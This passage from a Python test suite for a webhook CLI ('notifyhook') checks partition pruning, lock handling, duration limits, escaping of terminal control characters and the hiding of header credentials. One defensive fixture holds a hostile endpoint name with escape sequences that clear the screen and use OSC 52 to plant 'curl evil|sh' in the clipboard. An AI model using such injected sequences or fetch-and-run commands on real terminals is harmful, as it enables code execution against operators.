    assert ok(database_url, "replay", "--all").strip() == "replayed 0 dead deliveries"


# -- prune -----------------------------------------------------------------------------


def test_prune_drops_old_day_partitions_and_deletes_orphan_events(db, database_url):
    endpoint = add_endpoint(db, "t", "a", "https://example.com/a")
    # The history's day partitions from two days ago (migrate makes them from today).
    db.execute("SELECT notifyhook.create_partitions(since => now() - interval '2 days')")

    def event(tenant: str = "t") -> str:
        return str(scalar(db, "SELECT notifyhook.enqueue(%s, 'x', '{}')", [tenant]))

    def finish(event_id: str, status: str, age: str) -> None:
        delivery = scalar(
            db,
            "UPDATE notifyhook.deliveries SET status = %s, attempts = 1, updated_at = now() - %s::interval, "
            "created_at = now() - %s::interval WHERE event_id = %s RETURNING id",
            [status, age, age, event_id],
        )
        db.execute(
            "INSERT INTO notifyhook.attempts (delivery_id, endpoint_id, attempt, started_at, worker) "
            "VALUES (%s, %s, 1, now() - %s::interval, 'w')",
            [delivery, endpoint, age],
        )

    old_delivered, old_dead, old_pending, new_delivered = event(), event(), event(), event()
    finish(old_delivered, "delivered", "2 days")
    finish(old_dead, "dead", "2 days")
    finish(new_delivered, "delivered", "0 seconds")
    db.execute(
        "UPDATE notifyhook.deliveries SET created_at = now() - interval '2 days', "
        "updated_at = now() - interval '2 days' WHERE event_id = %s",
        [old_pending],
    )
    old_orphan, new_orphan = event("nobody"), event("nobody")
    db.execute(
        "UPDATE notifyhook.events SET created_at = now() - interval '2 days' WHERE id = ANY(%s::uuid[])",
        [[old_delivered, old_dead, old_pending, old_orphan]],
    )
    day = scalar(db, "SELECT to_char((now() - interval '2 days') AT TIME ZONE 'UTC', 'YYYYMMDD')")

    # The day two days ago goes whole (its deliveries and its attempts), then three events,
    # one row a batch; the pending row as old lives in the queue's partition and stays.
    stdout = ok(database_url, "prune", "--batch-size", "1", retention="1d")
    assert stdout.splitlines() == [
        f"dropped 2 day partitions older than 86400s: attempts_{day}, deliveries_{day}",
        "deleted 3 rows older than 86400s",
    ]
    remaining = {r[0] for r in db.execute("SELECT id::text FROM notifyhook.events")}
    assert remaining == {old_pending, new_delivered, new_orphan}
    assert statuses(db) == {"pending": 1, "delivered": 1}
    assert scalar(db, "SELECT count(*) FROM notifyhook.attempts") == 1
    assert ok(database_url, "prune", retention="1d").strip() == "deleted 0 rows older than 86400s"


def test_prune_waits_for_no_one_when_another_prune_holds_the_lock(db, database_url):
    # The lock a worker's retention pass takes (notifyhook/queries.sql, try_lock_prune).
    db.execute("SELECT pg_advisory_lock(7305872156748263002)")
    line = one_line_error(run(database_url, "prune"), 1)
    assert "another prune is running" in line


def test_a_duration_too_long_for_a_command_is_a_usage_error(db, database_url):
    # 10^11 days overflowed timedelta: a traceback and exit 1 (review, session 8).
    endpoint = add_endpoint(db, "t", "a", "https://crm.example/hook")
    result = run(
        database_url, "endpoint", "rotate-secret", str(endpoint), "--grace", "99999999999d"
    )
    assert "'99999999999d' is longer than 10 years" in usage_error(result)


HOSTILE_TERMINAL_NAME = "crm\x1b]0;pwned\x07\x1b[2J\x1b[1A\x1b]52;c;Y3VybCBldmlsfHNo\x07"


@pytest.mark.parametrize("command", [("endpoint", "list"), ("stats",), ("endpoint", "show")])
def test_the_cli_does_not_print_a_tenants_terminal_escapes(db, database_url, command):
    # What a user sees: `notifyhook endpoint list` (or `stats`, `endpoint show`) clears
    # their screen, retitles their terminal and, through OSC 52, puts "curl evil|sh" in
    # their clipboard, because an endpoint name (chosen by a tenant: "Endpoint names come
    # from tenants", docs/dashboard.md) holds escape sequences, printed raw by
    # commands.format_table/_cell. The dashboard escapes the same hostile text; the CLI,
    # read by the operator with the most rights, passes it to the terminal as commands.
    endpoint = add_endpoint(db, "acme", HOSTILE_TERMINAL_NAME, "https://crm.example/hook")
    args = [*command, str(endpoint)] if command == ("endpoint", "show") else list(command)
    result = run_cli(database_url, *args, check=True)
    assert "crm" in result.stdout
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", result.stdout), (
        f"`notifyhook {' '.join(command)}` printed raw control characters: "
        f"{[line for line in result.stdout.splitlines() if chr(27) in line]!r}"
    )


# -- 4. `endpoint show` prints the receiver's credentials -----------------------------------


def test_endpoint_show_does_not_print_the_credentials_in_headers(db, database_url):
    # What a user sees: `notifyhook endpoint show 42` (pasted into a ticket, a chat, a CI
    # log, or shown on a shared screen) prints `headers {"Authorization": "Bearer
    # sk_live_..."}`, the credential the receiver accepts. The project treats these
    # headers as credentials everywhere else: `endpoint add` takes them from standard
    # input so argv never shows them, warns when a name says auth/token/key
    # (docs/endpoint-control.md: "at a terminal the value is asked for and not
    # echoed"), and `endpoint show` hides the secret itself ("never a secret itself").
    credential = "sk_live_9f8e7d6c5b4a3928"
    endpoint = add_endpoint(
        db,
        "acme",
        "crm",
        "https://crm.example/hook",
        headers=json.dumps({"Authorization": f"Bearer {credential}", "X-Api-Key": credential}),
    )
    for extra in ((), ("--json",)):
        shown = run_cli(database_url, "endpoint", "show", str(endpoint), *extra, check=True)
        assert "headers" in shown.stdout
        assert credential not in shown.stdout, (
            f"`endpoint show {' '.join(extra)}` printed the Authorization credential: "
            f"{[line for line in shown.stdout.splitlines() if credential in line]!r}"
        )
